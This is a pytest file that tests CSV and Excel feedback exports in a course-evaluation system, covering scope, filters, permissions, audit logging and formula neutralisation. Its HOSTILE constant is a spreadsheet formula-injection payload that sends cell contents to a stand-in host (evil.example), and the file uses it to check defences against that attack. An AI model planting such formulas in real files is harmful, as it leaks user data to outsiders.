"""Feedback exports (CSV and Excel, command line and web): the stored records and scores,
in the caller's scope, with text that cannot run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from evalsys.accounts.models import AuditEvent
from evalsys.feedback import rubrics
from evalsys.feedback.columns import COLUMNS
from evalsys.feedback.models import Feedback
from evalsys.feedback.writes import submit_feedback
from tests.fixtures.feedback_world import NOW, TODAY, full_scores

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def records(world, make_input, session):
    """Two CS spot checks (one with a hostile comment), a CS tutor report, a MATH spot check."""
    made = {
        "plain": submit_feedback(
            session, user=world.supervisor, data=make_input(), now=NOW, today=TODAY
        ),
        "hostile": submit_feedback(
            session,
            user=world.supervisor,
            data=make_input(
                scores=full_scores(session, "spot_check", 6), comment=HOSTILE, problems="-1 分"
            ),
            now=NOW,
            today=TODAY,
        ),
        "tutor": submit_feedback(
            session, user=world.tutor, data=make_input("tutor_group"), now=NOW, today=TODAY
        ),
        "math": submit_feedback(
            session,
            user=world.admin,
            data=make_input(section="MA101-01"),
            now=NOW,
            today=TODAY,
        ),
    }
    session.commit()
    return made


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_cli_csv_has_every_record_with_its_scores(cli, records, session, world):
    result = cli("export", "feedback", "--term", world.term.code)
    assert result.exit_code == 0, result.output
    header = result.output.splitlines()[0].split(",")
    assert header[: len(COLUMNS)] == list(COLUMNS)  # the import's columns come first
    rows = {int(r["id"]): r for r in csv_rows(result.output)}
    assert set(rows) == {f.id for f in records.values()}
    spot_items = rubrics.rubric_items(session, rubrics.current_rubric(session, "spot_check").id)
    for item in spot_items:
        assert rows[records["plain"].id][f"score:{item.code}"] == "8"
        assert rows[records["hostile"].id][f"score:{item.code}"] == "6"
        assert rows[records["tutor"].id].get(f"score:{item.code}", "") == ""
    plain = rows[records["plain"].id]
    assert plain["kind"] == "spot_check" and plain["section"] == "SE101-01"
    assert plain["observer"] == world.supervisor.username
    assert plain["teacher"] == world.teacher.username
    assert plain["department"] == "CS-SE" and plain["date"] == TODAY.isoformat()
    assert float(plain["overall_score"]) == pytest.approx(records["plain"].overall_score, abs=0.01)
    assert rows[records["tutor"].id]["group"] == "G-SE-1"
    # Formula-looking text is neutralised in CSV.
    assert rows[records["hostile"].id]["comment"] == "'" + HOSTILE
    assert rows[records["hostile"].id]["problems"] == "'-1 分"


def test_cli_unit_and_kind_filters(cli, records, world):
    result = cli("export", "feedback", "--unit", "CS", "--kind", "spot_check")
    ids = {int(r["id"]) for r in csv_rows(result.output)}
    assert ids == {records["plain"].id, records["hostile"].id}


def test_cli_xlsx_matches_the_csv_and_keeps_hostile_text_as_text(cli, records, tmp_path, world):
    path = tmp_path / "out.xlsx"
    result = cli("export", "feedback", "--format", "xlsx", "--output", str(path))
    assert result.exit_code == 0, result.output
    assert "Wrote 4 records" in result.output
    sheet = load_workbook(path).active
    values = list(sheet.iter_rows(values_only=True))
    header, body = list(values[0]), values[1:]
    from_csv = {int(r["id"]): r for r in csv_rows(cli("export", "feedback").output)}
    assert len(body) == len(from_csv)
    for row in body:
        record = dict(zip(header, row, strict=True))
        expected = from_csv[record["id"]]
        for name, value in record.items():
            if name.startswith("score:") and value is not None:
                assert float(expected[name]) == value
        if record["id"] == records["hostile"].id:
            assert record["comment"] == HOSTILE  # exactly as typed ...
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)  # ... and a string, not a formula


def test_cli_refuses_unknown_term_and_xlsx_to_the_terminal(cli, records, tmp_path):
    assert "no term 'NOPE'" in cli("export", "feedback", "--term", "NOPE").output
    result = cli("export", "feedback", "--format", "xlsx")
    assert result.exit_code == 2 and "needs --output" in result.output


def test_web_export_is_scoped_filtered_and_audited(client, auth, factory, records, session):
    factory.user("dean_cs", "dean@CS")
    auth.login("dean_cs")
    response = client.get("/feedback/export.csv?kind=spot_check")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    ids = {int(r["id"]) for r in csv_rows(response.get_data(as_text=True))}
    assert ids == {records["plain"].id, records["hostile"].id}  # no MATH, no tutor report
    xlsx = client.get("/feedback/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    ids = {row[header.index("id")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert ids == {records["plain"].id, records["hostile"].id, records["tutor"].id}
    events = session.exec(select(AuditEvent).where(AuditEvent.action == "feedback.export")).all()
    assert len(events) == 2 and all(e.user_id is not None for e in events)
    page = client.get("/feedback/?kind=spot_check").get_data(as_text=True)
    assert "/feedback/export.xlsx?kind=spot_check" in page


def test_web_export_refused_without_feedback_rights(client, auth, world, records):
    auth.login(world.teacher.username)
    assert client.get("/feedback/export.csv").status_code == 403
    assert client.get("/feedback/export.pdf").status_code == 404


def test_export_reads_in_batches_past_the_batch_size(cli, world, make_input, session, monkeypatch):
    """Keyset batches: every record once, however the batches fall (same-day records)."""
    from evalsys.feedback import export

    monkeypatch.setattr(export, "BATCH", 3)
    for _ in range(8):
        submit_feedback(session, user=world.supervisor, data=make_input(), now=NOW, today=TODAY)
    session.commit()
    rows = csv_rows(cli("export", "feedback").output)
    stored = session.exec(select(Feedback.id).where(Feedback.status == "submitted")).all()
    assert sorted(int(r["id"]) for r in rows) == sorted(stored)
